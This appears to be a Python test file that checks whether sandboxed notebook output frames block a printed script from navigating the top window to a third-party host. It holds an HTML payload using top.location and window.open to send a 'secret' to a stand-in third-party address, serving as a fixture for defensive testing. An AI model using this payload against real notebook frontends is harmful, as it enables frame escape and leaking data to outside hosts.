"""Print script that leads the whole window to a third party, out of the frame.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: the page is sandboxed without `allow-top-navigation`; from tier 2 on printed script is taken out
"""

OUTPUT = """
<script>
try { top.location = "THIRD/secret"; } catch { /* refused */ }
window.open("THIRD/secret-2", "_top");
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")
    stock_screen.fresh()


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
